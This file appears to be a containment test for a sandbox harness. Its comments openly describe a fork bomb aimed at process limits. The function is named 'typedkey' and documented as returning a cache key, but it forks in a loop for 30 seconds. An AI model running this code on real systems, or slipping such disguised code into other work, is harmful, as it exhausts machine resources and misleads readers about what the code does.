# attack: a fork bomb (every copy keeps forking). Self-limiting after 30 s so that a failed
#   containment cannot take the test machine down: the tests check the limits, not the machine.
# targets: pids limit (docker pids_limit, local pids cgroup / RLIMIT_NPROC), process cleanup
# expect: fail
import os
import time


def typedkey(*args, **kwargs):
    """Return a typed cache key for the specified hashable arguments."""
    deadline = time.time() + 30
    while time.time() < deadline:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    os._exit(0)
